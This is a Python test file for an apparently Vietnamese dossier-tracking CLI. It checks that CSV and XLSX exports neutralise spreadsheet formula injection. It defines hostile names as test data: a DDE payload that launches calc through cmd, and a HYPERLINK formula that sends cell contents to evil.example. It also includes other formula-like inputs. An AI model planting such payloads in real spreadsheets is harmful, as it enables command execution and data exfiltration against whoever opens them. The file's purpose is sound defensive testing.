"""Spreadsheets that run nothing: an officer named ``=cmd|' /C calc'!A0`` or an applicant named
``=HYPERLINK(…)`` is text in every .xlsx and .csv tthc writes, and an import reads back exactly
the names an export wrote."""

from __future__ import annotations

import csv
import json
import re
import zipfile
from datetime import date, datetime
from pathlib import Path

import openpyxl
from hypothesis import given
from hypothesis import strategies as st

from tests.conftest import Cli
from tthc.storage.sheets import FORMULA_START, csv_cell, unquote, write_table

EVIL_OFFICER = "=cmd|' /C calc'!A0"
EVIL_APPLICANT = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
PLUS_OFFICER = "+SUM(1,2)"
HOSTILE_APPLICANTS = (EVIL_APPLICANT, "@SUM(A1)", "-2+3", "'=already quoted", "Nguyễn Văn An")
LATER = "2025-10-01 08:00"


def hostile_september(center: Cli) -> Cli:
    """A September whose officers and applicants are named to run code in a spreadsheet: one
    dossier resolved two weeks late, the others left open past their due dates."""
    center.ok("officer", "add", EVIL_OFFICER)
    center.ok("officer", "add", PLUS_OFFICER)
    center.ok("procedure", "add", "9.999999", "--name", "=1+1", "--field", "@Hộ tịch", "--limit", "3wd")
    for day, applicant in enumerate(HOSTILE_APPLICANTS, start=3):
        officer = EVIL_OFFICER if day % 2 else PLUS_OFFICER
        center.ok(
            "receive",
            "ks",
            "--applicant",
            applicant,
            "--officer",
            officer,
            "--channel",
            "online",  # through the portal, weekends too
            "--at",
            f"2025-09-{day:02d} 09:00",
        )
    first = json.loads(center.ok("list", "--json", "--limit", "1", "--search", "hyperlink", now=LATER).stdout)
    center.ok("resolve", first[0]["code"], "--at", "2025-09-24 10:00", now=LATER)
    return center


def names_in(cli: Cli) -> tuple[list[str], list[str]]:
    """The applicants of a center's dossiers and its registered officers, sorted."""
    dossiers = json.loads(cli.ok("list", "--json", "--limit", "100", now=LATER).stdout)
    officers = json.loads(cli.ok("officer", "list", "--json", now=LATER).stdout)
    return sorted(d["applicant"] for d in dossiers), sorted(o["name"] for o in officers)


def fresh(tmp_path: Path, name: str) -> Cli:
    cli = Cli(tmp_path / f"{name}.db", now=LATER)
    cli.ok("init", "--center", "Trung tâm khác", "--prefix", "000.00.20.H56")
    return cli


def test_hostile_names_come_back_from_a_csv_and_a_workbook_exactly(center: Cli, tmp_path: Path) -> None:
    hostile_september(center)
    applicants, _ = names_in(center)
    assert applicants == sorted(HOSTILE_APPLICANTS)
    for suffix in ("csv", "xlsx"):
        out = tmp_path / f"september.{suffix}"
        center.ok("export", str(out), now=LATER)
        other = fresh(tmp_path, suffix)
        other.ok("officer", "add", PLUS_OFFICER)  # already known there: not registered twice
        other.ok("import", str(out))
        got_applicants, got_officers = names_in(other)
        assert got_applicants == applicants, suffix
        assert got_officers == sorted([EVIL_OFFICER, PLUS_OFFICER]), suffix


def test_a_csv_export_protects_text_and_leaves_numbers_alone(tmp_path: Path) -> None:
    out = tmp_path / "t.csv"
    rows = [["=1+1", -3, -1.5, date(2025, 9, 2), "-"], ["'+x", 0, 2.5, datetime(2025, 9, 2, 9, 0), "ok"]]
    write_table(out, ["a", "b", "c", "d", "e"], rows, excel_vn=True)
    read = list(csv.reader(out.read_text(encoding="utf-8-sig").splitlines(), delimiter=";"))
    assert read[1] == ["'=1+1", "-3", "-1,5", "02/09/2025", "'-"]
    assert read[2] == ["''+x", "0", "2,5", "02/09/2025 09:00", "ok"]


@given(st.text(alphabet="'=+-@\t\rab 1", max_size=8))
def test_the_reader_takes_off_exactly_what_the_writer_put_on(text: str) -> None:
    written = csv_cell(text)
    assert unquote(written) == text
    assert not str(written).startswith(FORMULA_START)


def test_numbers_and_dates_stay_typed_in_a_workbook(tmp_path: Path) -> None:
    out = tmp_path / "t.xlsx"
    write_table(out, ["a", "b", "c"], [["=1+1", -3, date(2025, 9, 2)]])
    row = next(openpyxl.load_workbook(out).active.iter_rows(min_row=2, values_only=True))  # type: ignore[union-attr]
    assert row[0] == "=1+1" and row[1] == -3 and row[2] == datetime(2025, 9, 2)


def _formulas(path: Path) -> list[str]:
    """The formula elements of a workbook, read from the sheets' XML inside the zip."""
    with zipfile.ZipFile(path) as z:
        xml = "".join(z.read(n).decode("utf-8") for n in z.namelist() if n.startswith("xl/worksheets/"))
    return re.findall(r"<f[ >].*?</f>|<f/>", xml)


def _texts(path: Path) -> list[str]:
    book = openpyxl.load_workbook(path)
    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"], path.name
    return [c.value for c in cells if isinstance(c.value, str)]


def test_no_workbook_tthc_writes_runs_a_formula(center: Cli, tmp_path: Path) -> None:
    hostile_september(center)
    month = ("--month", "2025-09")
    commands = {
        "logbook": ("logbook", *month, "--out"),
        "report": ("report", *month, "--out"),
        "export": ("export",),
        "full": ("export", "--full"),
        "summary": ("summary", *month, "--by", "officer", "--out"),
        "officers": ("officers", *month, "--out"),
        "late": ("late", *month, "--out"),
        "procedures": ("procedure", "export"),
    }
    for lang in ("en", "vi"):
        for name, args in commands.items():
            out = tmp_path / f"{name}-{lang}.xlsx"
            before, after = (args, ()) if args[-1] != "--full" else (args[:1], args[1:])
            center.ok(*before, str(out), *after, now=LATER, lang=lang)
            assert _formulas(out) == [], (name, lang)
            texts = _texts(out)
            hostile = {EVIL_OFFICER, EVIL_APPLICANT, "=1+1"} & set(texts)
            if name in ("logbook", "export", "full"):
                assert EVIL_OFFICER in texts and EVIL_APPLICANT in texts, (name, lang)
            else:
                assert hostile, (name, lang)


def test_no_csv_tthc_writes_begins_a_cell_with_a_formula(center: Cli, tmp_path: Path) -> None:
    hostile_september(center)
    month = ("--month", "2025-09")
    for name, args in {
        "export": ("export",),
        "summary": ("summary", *month, "--by", "officer", "--out"),
        "officers": ("officers", *month, "--out"),
        "late": ("late", *month, "--out"),
        "procedures": ("procedure", "export"),
    }.items():
        out = tmp_path / f"{name}.csv"
        center.ok(*args, str(out), now=LATER, lang="vi")
        text = out.read_text(encoding="utf-8-sig")
        cells = [
            c
            for row in csv.reader(text.splitlines(), delimiter=";" if ";" in text.splitlines()[0] else ",")
            for c in row
        ]
        assert not [c for c in cells if c.startswith(FORMULA_START)], name
        assert any(unquote(c) in (EVIL_OFFICER, EVIL_APPLICANT, "=1+1") for c in cells), name


def test_a_procedure_named_like_a_formula_comes_back_from_its_export(center: Cli, tmp_path: Path) -> None:
    center.ok("procedure", "add", "9.999999", "--name", "=1+1", "--field", "@Hộ tịch", "--limit", "3wd")
    for suffix in ("csv", "xlsx"):
        out = tmp_path / f"catalog.{suffix}"
        center.ok("procedure", "export", str(out))
        other = fresh(tmp_path, f"catalog-{suffix}")
        other.ok("procedure", "import", str(out))
        got = json.loads(other.ok("procedure", "show", "9.999999", "--json").stdout)
        assert (got["name"], got["field"]) == ("=1+1", "@Hộ tịch"), suffix


def test_a_workbook_of_several_sheets_runs_no_formula_either(tmp_path: Path) -> None:
    """The province's roll-up writes a sheet per center: a center named like a formula too."""
    from tthc.storage.sheets import write_workbook

    out = tmp_path / "rollup.xlsx"
    write_workbook(out, [("=A1", ["center", "rate"], [[EVIL_APPLICANT, -1.5]]), ("total", ["x"], [["+1"]])])
    assert _formulas(out) == []
    texts = _texts(out)
    assert EVIL_APPLICANT in texts and "+1" in texts
